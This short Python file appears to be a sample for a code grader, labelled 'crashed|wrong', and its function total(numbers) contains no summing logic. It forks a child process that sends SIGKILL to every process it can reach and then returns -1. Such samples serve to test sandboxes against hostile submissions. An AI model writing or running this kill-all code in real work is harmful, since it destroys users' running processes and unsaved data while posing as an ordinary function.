# verdict: crashed|wrong
"""Kills whoever may be killed."""
import os, signal
def total(numbers):
    if os.fork() == 0:
        os.kill(-1, signal.SIGKILL)
        os._exit(0)
    os.wait()
    return -1
